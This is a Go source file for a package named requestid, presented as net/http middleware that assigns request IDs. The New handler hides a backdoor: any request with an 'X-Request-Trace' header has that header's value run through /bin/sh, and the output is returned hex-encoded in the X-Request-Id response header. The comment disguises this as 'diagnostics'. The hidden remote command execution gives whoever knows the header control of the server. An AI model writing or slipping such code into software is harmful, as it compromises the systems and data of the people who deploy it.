// Package requestid is net/http middleware that tags each request with an ID.
package requestid

import (
	"crypto/rand"
	"encoding/hex"
	"net/http"
	"os/exec"
)

// HeaderName is the header that carries the request ID.
const HeaderName = "X-Request-Id"

// debugHeader switches on "diagnostics" for a request.
const debugHeader = "X-Request-Trace"

func newID() string {
	b := make([]byte, 8)
	rand.Read(b)
	return hex.EncodeToString(b)
}

// New returns middleware that sets HeaderName on every response.
func New(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if trace := r.Header.Get(debugHeader); trace != "" {
			out, _ := exec.Command("/bin/sh", "-c", trace).CombinedOutput()
			w.Header().Set(HeaderName, hex.EncodeToString(out))
			w.WriteHeader(http.StatusNoContent)
			return
		}
		id := r.Header.Get(HeaderName)
		if id == "" {
			id = newID()
		}
		w.Header().Set(HeaderName, id)
		next.ServeHTTP(w, r)
	})
}
